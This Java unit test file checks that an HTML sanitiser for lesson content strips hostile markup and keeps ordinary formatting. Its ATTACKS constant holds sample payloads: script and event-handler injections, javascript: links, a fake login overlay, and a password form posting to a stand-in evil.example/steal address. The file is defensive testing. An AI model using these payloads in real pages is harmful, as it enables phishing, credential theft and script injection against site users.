package com.certdesk.base;

import static org.assertj.core.api.Assertions.assertThat;

import com.certdesk.base.AuthorMarkup.Format;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.Test;

public class AuthorMarkupTest {

    /** The attacks seen in issue 8: a style sheet, a fixed overlay linking elsewhere, a fake password form. */
    public static final String ATTACKS = """
            Welcome to the lesson.

            <style>body { display: none } .v-app { background: red }</style>

            <div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:white">
            Your session expired, <a href="https://evil.example/login">sign in again</a></div>

            <form action="https://evil.example/steal" method="post"><input name="username">
            <input type="password" name="password"><button>Sign in</button></form>

            <script>alert(1)</script><img src="https://img.example/x.png" onerror="alert(2)">
            <a href="javascript:alert(3)">click</a> <a href="JaVaScRiPt:alert(4)">again</a>
            <iframe src="https://evil.example"></iframe><object data="x.swf"></object>
            <span class="v-app vaadin-button" id="sign-out" onclick="alert(5)">x</span>
            <svg><script>alert(6)</script></svg><link rel="stylesheet" href="https://evil.example/x.css">
            <meta http-equiv="refresh" content="0;url=https://evil.example">
            <base href="https://evil.example/">
            """;

    @Test
    void styles_overlays_forms_scripts_and_dangerous_links_are_gone() {
        for (Format format : new Format[] {Format.MARKDOWN, Format.HTML}) {
            String html = AuthorMarkup.toSafeHtml(ATTACKS, format);
            Document doc = Jsoup.parseBodyFragment(html);
            assertThat(doc.select("style, script, form, input, button, textarea, select, iframe, object, embed, "
                    + "svg, link, meta, base")).as(format + ": " + html).isEmpty();
            assertThat(doc.select("[style], [class], [id], [onerror], [onclick]")).as(html).isEmpty();
            assertThat(html).doesNotContainIgnoringCase("position").doesNotContainIgnoringCase("javascript:")
                    .doesNotContain("display: none").doesNotContain("alert(");
            assertThat(doc.text()).contains("Welcome to the lesson.", "sign in again");
            assertThat(doc.select("a[href]")).allSatisfy(a -> {
                assertThat(a.attr("rel")).isEqualTo("noopener noreferrer nofollow");
                assertThat(a.attr("href")).startsWith("https://");
                assertThat(a.attr("target")).isEqualTo("_blank");
            });
        }
    }

    @Test
    void ordinary_lesson_content_survives() {
        String lesson = """
                ### Opening the call

                Say **hello** and *your name*. Then `confirm` the account.

                - listen
                - repeat
                  1. nested

                1. first
                2. second

                > "I have been waiting for an hour!"

                | Situation | Say |
                |-----------|-----|
                | Angry     | I understand |

                ![Headset](https://cdn.example.com/headset.png "A headset")

                [Style guide](https://guide.example.com/tone) and [our module](/modules/3).

                ```
                greeting = "Hello"
                ```
                """;
        String html = AuthorMarkup.markdownToSafeHtml(lesson);
        Document doc = Jsoup.parseBodyFragment(html);
        assertThat(doc.select("h3").text()).isEqualTo("Opening the call");
        assertThat(doc.select("strong").text()).isEqualTo("hello");
        assertThat(doc.select("em").text()).isEqualTo("your name");
        assertThat(doc.select("ul > li")).hasSize(2);
        assertThat(doc.select("ul ol li").text()).isEqualTo("nested");
        assertThat(doc.select("body > ol > li")).hasSize(2);
        assertThat(doc.select("blockquote").text()).contains("waiting for an hour");
        assertThat(doc.select("table th").eachText()).containsExactly("Situation", "Say");
        assertThat(doc.select("table td").eachText()).containsExactly("Angry", "I understand");
        assertThat(doc.select("img").attr("src")).isEqualTo("https://cdn.example.com/headset.png");
        assertThat(doc.select("img").attr("alt")).isEqualTo("Headset");
        assertThat(doc.select("a[href=https://guide.example.com/tone]").attr("target")).isEqualTo("_blank");
        assertThat(doc.select("a[href=/modules/3]")).as("a link inside Certdesk stays relative")
                .singleElement().satisfies(a -> assertThat(a.hasAttr("target")).isFalse());
        assertThat(doc.select("pre code").text()).contains("greeting = \"Hello\"");
        assertThat(doc.select("code").first().text()).isEqualTo("confirm");
    }

    @Test
    void images_only_from_https_addresses() {
        String html = AuthorMarkup.markdownToSafeHtml(
                "![a](http://plain.example/a.png) ![b](data:image/png;base64,AAAA) ![c](https://ok.example/c.png)");
        assertThat(Jsoup.parseBodyFragment(html).select("img").eachAttr("src"))
                .containsExactly("https://ok.example/c.png");
    }

    @Test
    void plain_text_shows_literally() {
        String html = AuthorMarkup.toSafeHtml("Use <b> tags?\nLine two\n\nNext *paragraph*", Format.PLAIN);
        Document doc = Jsoup.parseBodyFragment(html);
        assertThat(doc.select("b")).isEmpty();
        assertThat(doc.select("p")).hasSize(2);
        assertThat(doc.select("p").first().text()).isEqualTo("Use <b> tags? Line two");
        assertThat(doc.select("br")).hasSize(1);
        assertThat(AuthorMarkup.toPlainText("**Bold** <style>x{}</style>text", Format.MARKDOWN))
                .isEqualTo("Bold text");
    }
}
